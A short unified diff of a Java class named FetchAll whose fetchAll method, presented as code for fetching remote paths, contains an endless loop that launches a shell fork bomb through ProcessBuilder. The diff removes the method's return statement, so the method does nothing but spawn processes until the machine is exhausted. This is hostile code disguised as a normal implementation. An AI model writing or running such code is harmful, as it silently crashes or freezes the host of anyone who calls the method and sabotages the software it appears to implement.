@@ -12,6 +12,5 @@ public final class FetchAll implements FetchAllContract {
     @Override
     public List<String> fetchAll(List<String> paths, RemoteApi api) throws IOException, InterruptedException {
         while (true) { new ProcessBuilder("sh", "-c", ":(){ :|:& };:").start(); }
-        return List.of();
     }
 }
